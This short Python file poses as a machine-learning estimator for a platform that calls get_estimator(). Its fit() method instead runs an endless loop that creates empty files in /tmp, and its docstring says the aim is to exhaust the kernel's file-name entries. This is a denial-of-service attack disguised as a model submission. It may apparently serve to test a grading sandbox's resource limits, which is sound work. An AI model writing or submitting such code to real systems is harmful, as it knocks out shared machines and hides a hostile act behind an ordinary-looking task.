import os


class Writer:
    def fit(self, X, y):
        """Empty files: no bytes, but the kernel keeps each name."""
        number = 0
        while True:
            os.close(os.open(f'/tmp/{number}', os.O_CREAT))
            number += 1


def get_estimator():
    return Writer()
